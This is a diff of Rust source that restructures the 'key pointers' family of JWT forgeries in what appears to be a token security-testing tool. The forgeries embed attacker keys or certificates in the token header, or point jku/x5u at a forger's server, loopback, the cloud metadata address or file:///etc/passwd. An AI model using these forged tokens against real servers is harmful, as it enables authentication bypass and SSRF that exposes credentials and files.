@@ -3,11 +3,13 @@
 use base64::{Engine as _, engine::general_purpose::STANDARD};
 use serde_json::{Value, json};
 
-use crate::attack::{
-    Family, Forged, Forgery, certificate,
-    draft::{Draft, set},
+use crate::{
+    attack::{
+        Family, Forged, Forgery, Make, Stage, certificate,
+        draft::{Draft, set},
+    },
+    jose::{b64, pem},
 };
-use crate::jose::{b64, pem};
 
 const OWN: &str =
     "A key that the token brings along is trusted: anyone can write any token (CVE-2018-0114).";
@@ -15,26 +17,198 @@ const FETCH: &str = "The server fetches keys from where the token says: anyone c
 const INSIDE: &str = "The server fetches what the token names, even inside its own network (SSRF).";
 const SOURCE: &str = "RFC 8725 §3.10; jwt_tool, JWT Editor, PortSwigger, jwt-hack";
 
-#[rustfmt::skip] // a table: one line a forgery
-pub(in crate::attack) fn forgeries() -> Vec<Forgery> {
-    const F: Family = Family::Pointers;
-    vec![
-        Forgery::token(F, "jwk-own", "Own key in `jwk`", "The header brings a key of the forger's in `jwk`; signed with it.", "CVE-2018-0114; jwt_tool, JWT Editor, PortSwigger, jwt-hack", OWN, |d| by_jwk(d, false)),
-        Forgery::token(F, "jwk-own-kid", "Own key in `jwk`, with its kid", "As own key in `jwk`; `kid` names the key that is brought along.", "CVE-2018-0114; JWT Editor, PortSwigger", OWN, |d| by_jwk(d, true)),
-        Forgery::token(F, "jwk-private", "Private key in `jwk`", "The header brings a whole private key in `jwk`; signed with it.", "RFC 7515 §4.1.3; own", OWN, |d| own(d, "/jwk", Value::Object(crate::attack::ingredients::unbound(&d.with.own).0))),
-        Forgery::token(F, "jwk-symmetric", "Symmetric key in `jwk`", "The header brings a shared secret in `jwk`; `alg` is HS256, and the HMAC is made with it.", "RFC 7515 §4.1.3; own", OWN, |d| { let h = d.header_set("/alg", Some("HS256".into()))?; d.hmac_with(&set(&h, "/jwk", Some(json!({"kty":"oct","k":b64::encode("forged")})))?, b"forged") }),
-        Forgery::token(F, "x5c-own", "Own certificate in `x5c`", "The header brings a self-signed certificate of the forger's; signed with its key.", "RFC 7515 §4.1.6; CVE-2017-2800; jwt_tool, jwt-hack", OWN, |d| { let der = certificate::self_signed(&d.with.own, &d.with.own_alg)?; own(d, "/x5c", json!([STANDARD.encode(der)])) }),
-        Forgery::token(F, "x5c-own-chain", "Own chain in `x5c`", "The header brings a certificate and the authority of the forger's that signed it; signed with the certificate's key.", "RFC 7515 §4.1.6, RFC 5280 §6.1; jwt_tool, jwt-hack", OWN, |d| { let chain = certificate::chain(&d.with.own, &d.with.own_alg)?; own(d, "/x5c", chain.map(|der| Value::from(STANDARD.encode(der))).into_iter().collect()) }),
-        Forgery::token(F, "jku-own", "`jku` to the forger's server", "`jku` names a key set at the forger's; signed with a key of the forger's.", SOURCE, FETCH, |d| own(d, "/jku", d.with.place("jwks.json").into())),
-        Forgery::token(F, "jku-loopback", "`jku` to loopback", "`jku` names a port of the server's own machine.", SOURCE, INSIDE, |d| own(d, "/jku", json!("http://127.0.0.1:9/jwks.json"))),
-        Forgery::token(F, "jku-metadata", "`jku` to the metadata address", "`jku` names the address at which clouds give credentials away.", SOURCE, INSIDE, |d| own(d, "/jku", json!("http://169.254.169.254/latest/meta-data/"))),
-        Forgery::token(F, "jku-file", "`jku` to a file", "`jku` names a file.", SOURCE, INSIDE, |d| own(d, "/jku", json!("file:///etc/passwd"))),
-        Forgery::token(F, "jku-userinfo", "`jku` behind the issuer's name", "`jku` begins with the issuer's name and leads elsewhere: `issuer@forger.example`.", "RFC 8725 §3.10; PortSwigger", FETCH, |d| { let issuer = d.claim_text("iss").unwrap_or_else(|_| "https://issuer.example".into()); let place = d.with.place("jwks.json"); let (_, place) = place.split_once("://").unwrap_or(("", &place)); own(d, "/jku", json!(format!("{}@{place}", issuer.trim_end_matches('/')))) }),
-        Forgery::token(F, "x5u-own", "`x5u` to the forger's server", "`x5u` names a certificate at the forger's; signed with its key.", SOURCE, FETCH, |d| own(d, "/x5u", d.with.place("cert.pem").into())),
-        Forgery::token(F, "x5u-loopback", "`x5u` to loopback", "`x5u` names a port of the server's own machine.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("http://127.0.0.1:9/cert.pem"))),
-        Forgery::token(F, "x5u-metadata", "`x5u` to the metadata address", "`x5u` names the address at which clouds give credentials away.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("http://169.254.169.254/latest/meta-data/"))),
-        Forgery::token(F, "x5u-file", "`x5u` to a file", "`x5u` names a file.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("file:///etc/passwd"))),
-    ]
+pub(super) static FAMILY: Family = Family {
+    name: "key-pointers",
+    title: "Key pointers",
+    says: "The token brings its own key, or says where to fetch it. Only keys that the server knows beforehand may decide.",
+    stage: Stage::KeyName,
+    forgeries: &[
+        Forgery {
+            name: "jwk-own",
+            title: "Own key in `jwk`",
+            mutates: "The header brings a key of the forger's in `jwk`; signed with it.",
+            source: "CVE-2018-0114; jwt_tool, JWT Editor, PortSwigger, jwt-hack",
+            means: OWN,
+            make: Make::Token(|d| by_jwk(d, false)),
+            ..forgery()
+        },
+        Forgery {
+            name: "jwk-own-kid",
+            title: "Own key in `jwk`, with its kid",
+            mutates: "As own key in `jwk`; `kid` names the key that is brought along.",
+            source: "CVE-2018-0114; JWT Editor, PortSwigger",
+            means: OWN,
+            make: Make::Token(|d| by_jwk(d, true)),
+            ..forgery()
+        },
+        Forgery {
+            name: "jwk-private",
+            title: "Private key in `jwk`",
+            mutates: "The header brings a whole private key in `jwk`; signed with it.",
+            source: "RFC 7515 §4.1.3; own",
+            means: OWN,
+            make: Make::Token(|d| {
+                own(
+                    d,
+                    "/jwk",
+                    Value::Object(crate::attack::ingredients::unbound(&d.with.own).0),
+                )
+            }),
+            ..forgery()
+        },
+        Forgery {
+            name: "jwk-symmetric",
+            title: "Symmetric key in `jwk`",
+            mutates: "The header brings a shared secret in `jwk`; `alg` is HS256, and the HMAC is made with it.",
+            source: "RFC 7515 §4.1.3; own",
+            means: OWN,
+            make: Make::Token(|d| {
+                let h = d.header_set("/alg", Some("HS256".into()))?;
+                d.hmac_with(
+                    &set(
+                        &h,
+                        "/jwk",
+                        Some(json!({"kty":"oct","k":b64::encode("forged")})),
+                    )?,
+                    b"forged",
+                )
+            }),
+            ..forgery()
+        },
+        Forgery {
+            name: "x5c-own",
+            title: "Own certificate in `x5c`",
+            mutates: "The header brings a self-signed certificate of the forger's; signed with its key.",
+            source: "RFC 7515 §4.1.6; CVE-2017-2800; jwt_tool, jwt-hack",
+            means: OWN,
+            make: Make::Token(|d| {
+                let der = certificate::self_signed(&d.with.own, &d.with.own_alg)?;
+                own(d, "/x5c", json!([STANDARD.encode(der)]))
+            }),
+            ..forgery()
+        },
+        Forgery {
+            name: "x5c-own-chain",
+            title: "Own chain in `x5c`",
+            mutates: "The header brings a certificate and the authority of the forger's that signed it; signed with the certificate's key.",
+            source: "RFC 7515 §4.1.6, RFC 5280 §6.1; jwt_tool, jwt-hack",
+            means: OWN,
+            make: Make::Token(|d| {
+                let chain = certificate::chain(&d.with.own, &d.with.own_alg)?;
+                own(
+                    d,
+                    "/x5c",
+                    chain
+                        .map(|der| Value::from(STANDARD.encode(der)))
+                        .into_iter()
+                        .collect(),
+                )
+            }),
+            ..forgery()
+        },
+        Forgery {
+            name: "jku-own",
+            title: "`jku` to the forger's server",
+            mutates: "`jku` names a key set at the forger's; signed with a key of the forger's.",
+            source: SOURCE,
+            means: FETCH,
+            make: Make::Token(|d| own(d, "/jku", d.with.place("jwks.json").into())),
+            ..forgery()
+        },
+        Forgery {
+            name: "jku-loopback",
+            title: "`jku` to loopback",
+            mutates: "`jku` names a port of the server's own machine.",
+            source: SOURCE,
+            means: INSIDE,
+            make: Make::Token(|d| own(d, "/jku", json!("http://127.0.0.1:9/jwks.json"))),
+            ..forgery()
+        },
+        Forgery {
+            name: "jku-metadata",
+            title: "`jku` to the metadata address",
+            mutates: "`jku` names the address at which clouds give credentials away.",
+            source: SOURCE,
+            means: INSIDE,
+            make: Make::Token(|d| {
+                own(d, "/jku", json!("http://169.254.169.254/latest/meta-data/"))
+            }),
+            ..forgery()
+        },
+        Forgery {
+            name: "jku-file",
+            title: "`jku` to a file",
+            mutates: "`jku` names a file.",
+            source: SOURCE,
+            means: INSIDE,
+            make: Make::Token(|d| own(d, "/jku", json!("file:///etc/passwd"))),
+            ..forgery()
+        },
+        Forgery {
+            name: "jku-userinfo",
+            title: "`jku` behind the issuer's name",
+            mutates: "`jku` begins with the issuer's name and leads elsewhere: `issuer@forger.example`.",
+            source: "RFC 8725 §3.10; PortSwigger",
+            means: FETCH,
+            make: Make::Token(|d| {
+                let issuer = d
+                    .claim_text("iss")
+                    .unwrap_or_else(|_| "https://issuer.example".into());
+                let place = d.with.place("jwks.json");
+                let (_, place) = place.split_once("://").unwrap_or(("", &place));
+                own(
+                    d,
+                    "/jku",
+                    json!(format!("{}@{place}", issuer.trim_end_matches('/'))),
+                )
+            }),
+            ..forgery()
+        },
+        Forgery {
+            name: "x5u-own",
+            title: "`x5u` to the forger's server",
+            mutates: "`x5u` names a certificate at the forger's; signed with its key.",
+            source: SOURCE,
+            means: FETCH,
+            make: Make::Token(|d| own(d, "/x5u", d.with.place("cert.pem").into())),
+            ..forgery()
+        },
+        Forgery {
+            name: "x5u-loopback",
+            title: "`x5u` to loopback",
+            mutates: "`x5u` names a port of the server's own machine.",
+            source: SOURCE,
+            means: INSIDE,
+            make: Make::Token(|d| own(d, "/x5u", json!("http://127.0.0.1:9/cert.pem"))),
+            ..forgery()
+        },
+        Forgery {
+            name: "x5u-metadata",
+            title: "`x5u` to the metadata address",
+            mutates: "`x5u` names the address at which clouds give credentials away.",
+            source: SOURCE,
+            means: INSIDE,
+            make: Make::Token(|d| {
+                own(d, "/x5u", json!("http://169.254.169.254/latest/meta-data/"))
+            }),
+            ..forgery()
+        },
+        Forgery {
+            name: "x5u-file",
+            title: "`x5u` to a file",
+            mutates: "`x5u` names a file.",
+            source: SOURCE,
+            means: INSIDE,
+            make: Make::Token(|d| own(d, "/x5u", json!("file:///etc/passwd"))),
+            ..forgery()
+        },
+    ],
+    ..Family::BASE
+};
+
+/// What its forgeries have in common.
+const fn forgery() -> Forgery {
+    Forgery::of(&FAMILY)
 }
 
 /// What has to stand at the address that a forgery points to, for a server that fetches it: what it is,
